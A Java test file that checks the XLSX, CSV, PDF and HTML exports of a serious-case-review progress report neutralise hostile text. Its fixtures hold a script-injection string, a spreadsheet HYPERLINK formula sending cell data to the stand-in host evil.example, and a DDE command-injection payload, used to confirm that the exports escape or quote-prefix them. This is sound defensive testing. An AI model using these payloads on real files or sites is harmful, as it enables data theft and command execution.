package org.reviewactions.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFColor;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.thymeleaf.spring6.SpringTemplateEngine;
import org.thymeleaf.templatemode.TemplateMode;
import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;

/** Each format read back: what boards publish is there, and hostile text stays text everywhere. */
class ReportFormatsTest {

  static final String SCRIPT = "<script>alert('x')</script>";
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
  static final LocalDate AS_AT = LocalDate.of(2006, 7, 1);

  private static ProgressReport.Row row(int n, String action, String progress, ReportStatus status) {
    return new ProgressReport.Row((long) n, String.valueOf(n), "Recommendation " + n, action, "Kingston Police",
        "September 2006", "Borough Commander", LocalDate.of(2006, 9, 30), "In progress", progress,
        progress == null ? null : AS_AT, status);
  }

  static ProgressReport report(List<ProgressReport.Row> rows) {
    return new ProgressReport(7L, "KIN-1", "SCR Baby A", "Kingston LSCB", AS_AT, Set.of(), rows);
  }

  static ProgressReport hostile() {
    return report(List.of(
        row(1, "Train every team", "Training plan agreed", ReportStatus.GREEN),
        row(2, HYPERLINK, SCRIPT, ReportStatus.RED),
        row(3, "+cmd|' /C calc'!A0", "-2+3", ReportStatus.AMBER),
        row(4, "@SUM(1+1)", "\tTabbed", ReportStatus.COMPLETE),
        row(5, "\rReturned", null, ReportStatus.CLOSED_INCOMPLETE)));
  }

  static ReportHtml html() {
    ClassLoaderTemplateResolver resolver = new ClassLoaderTemplateResolver();
    resolver.setPrefix("templates/");
    resolver.setSuffix(".html");
    resolver.setTemplateMode(TemplateMode.HTML);
    resolver.setCharacterEncoding("UTF-8");
    SpringTemplateEngine engine = new SpringTemplateEngine();
    engine.setTemplateResolver(resolver);
    return new ReportHtml(engine);
  }

  @Test
  void xlsxHasAFrozenWrappedHeaderAndTheStatusAsColourAndWord() throws Exception {
    byte[] bytes = new ReportXlsx().render(hostile());

    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
      XSSFSheet sheet = workbook.getSheetAt(0);
      assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
      assertThat(sheet.getPaneInformation().getHorizontalSplitTopRow()).isEqualTo((short) 2);
      assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("SCR Baby A (KIN-1): progress as at 1 July 2006");
      List<String> headers = IntStream.range(0, 7).mapToObj(i -> sheet.getRow(1).getCell(i).getStringCellValue()).toList();
      assertThat(headers).containsExactly("Recommendation", "Action", "Agency", "Timescale (as written)", "Responsible",
          "Progress as at 1 July 2006", "Status");
      assertThat(sheet.getRow(1).getCell(0).getCellStyle().getFont().getBold()).isTrue();
      XSSFCell green = sheet.getRow(2).getCell(6);
      assertThat(green.getStringCellValue()).isEqualTo("Green");
      assertThat(((XSSFColor) green.getCellStyle().getFillForegroundColorColor()).getARGBHex()).isEqualTo("FF00703C");
      XSSFCell red = sheet.getRow(3).getCell(6);
      assertThat(red.getStringCellValue()).isEqualTo("Red");
      assertThat(((XSSFColor) red.getCellStyle().getFillForegroundColorColor()).getARGBHex()).isEqualTo("FFD4351C");
      assertThat(sheet.getRow(5).getCell(6).getStringCellValue()).isEqualTo("Complete");
      assertThat(sheet.getRow(6).getCell(6).getStringCellValue()).isEqualTo("Closed without completion");
      assertThat(sheet.getRow(2).getCell(5).getStringCellValue()).startsWith("Training plan agreed");
      assertThat(sheet.getRow(2).getCell(5).getCellStyle().getWrapText()).isTrue();
      assertThat(sheet.getRow(2).getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
    }
  }

  @Test
  void xlsxStoresFormulaLikeCellsAsQuotePrefixedTextNeverAsFormulas() throws Exception {
    byte[] bytes = new ReportXlsx().render(hostile());

    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
      XSSFSheet sheet = workbook.getSheetAt(0);
      for (int r = 2; r <= 6; r++) {
        for (int c = 0; c < 7; c++) {
          assertThat(sheet.getRow(r).getCell(c).getCellType()).isEqualTo(CellType.STRING);
        }
      }
      XSSFCell hyperlink = sheet.getRow(3).getCell(1);
      assertThat(hyperlink.getStringCellValue()).isEqualTo(HYPERLINK);
      assertThat(hyperlink.getCellStyle().getQuotePrefixed()).isTrue();
      for (int[] cell : new int[][] {{4, 1}, {4, 5}, {5, 1}, {5, 5}, {6, 1}}) {
        assertThat(sheet.getRow(cell[0]).getCell(cell[1]).getCellStyle().getQuotePrefixed())
            .as("cell %s", Arrays.toString(cell)).isTrue();
      }
    }
  }

  @Test
  void csvStartsWithTheByteOrderMarkParsesBackAndPrefixesFormulaLikeCellsWithAnApostrophe() throws Exception {
    byte[] bytes = new ReportCsv().render(hostile());

    assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
    List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(text)).getRecords();
    assertThat(records).hasSize(6);
    assertThat(records.get(0).toList()).containsExactly("Recommendation", "Action", "Agency", "Timescale (as written)",
        "Responsible", "Progress as at 1 July 2006", "Status");
    assertThat(records.get(1).toList()).containsExactly("1 Recommendation 1", "Train every team", "Kingston Police",
        "September 2006", "Borough Commander", "Training plan agreed\n(as at 1 July 2006)", "Green");
    assertThat(records.get(2).get(1)).isEqualTo("'" + HYPERLINK);
    assertThat(records.get(2).get(5)).startsWith(SCRIPT);
    assertThat(records.get(3).get(1)).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(records.get(3).get(5)).startsWith("'-2+3");
    assertThat(records.get(4).get(1)).isEqualTo("'@SUM(1+1)");
    assertThat(records.get(4).get(5)).startsWith("'\tTabbed");
    assertThat(records.get(5).get(1)).isEqualTo("'\rReturned");
    assertThat(records.get(5).get(6)).isEqualTo("Closed without completion");
    for (CSVRecord record : records.subList(1, records.size())) {
      for (String cell : record) {
        assertThat(ReportColumns.formulaLike(cell)).as(cell).isFalse();
      }
    }
  }

  @Test
  void pdfTextNamesTheReviewAndPageNumbersOnEveryPageAndHoldsTheRows() throws Exception {
    List<ProgressReport.Row> rows = new ArrayList<>(hostile().rows());
    for (int n = 6; n <= 80; n++) {
      rows.add(row(n, "Action number " + n + " of the plan", "Progress of action " + n, ReportStatus.GREEN));
    }
    byte[] bytes = new ReportPdf().render(report(rows));

    try (PDDocument pdf = Loader.loadPDF(bytes)) {
      int pages = pdf.getNumberOfPages();
      assertThat(pages).isGreaterThan(1);
      PDFTextStripper stripper = new PDFTextStripper();
      for (int page = 1; page <= pages; page++) {
        stripper.setStartPage(page);
        stripper.setEndPage(page);
        String text = stripper.getText(pdf);
        assertThat(text).contains("SCR Baby A (KIN-1): progress as at 1 July 2006");
        assertThat(text).contains("Page " + page + " of " + pages);
        assertThat(text).contains("Progress as at 1 July 2006");
      }
      stripper.setStartPage(1);
      stripper.setEndPage(pages);
      // Cells wrap their text over lines; the words are what count.
      String all = stripper.getText(pdf).replaceAll("\\s+", " ");
      assertThat(all).contains("Train every team", "Training plan agreed", "Kingston Police", "September 2006",
          "Borough Commander", "Closed without completion", "Action number 80 of the plan");
      // Hostile text is printed as the words it is: nothing in a PDF runs it.
      assertThat(all).contains(SCRIPT).contains("=HYPERLINK(");
      assertThat(pdf.getDocumentCatalog().getOpenAction()).isNull();
      assertThat(pdf.getDocumentCatalog().getNames()).isNull();
    }
  }

  @Test
  void standaloneHtmlEscapesHostileTextAndCarriesNoScripts() {
    String page = html().render(hostile());

    assertThat(page).startsWith("<!DOCTYPE html>");
    assertThat(page).contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;");
    assertThat(page.toLowerCase()).doesNotContain("<script").doesNotContain("javascript:").doesNotContain(" on");
    assertThat(page).contains("<h1>SCR Baby A</h1>", "Progress as at 1 July 2006", "Train every team",
        "govuk-tag--red", ">Red<", ">Closed without completion<", "No progress recorded");
    assertThat(page).contains("=HYPERLINK(");
    assertThat(page).doesNotContain("<link").doesNotContain("src=");
  }
}
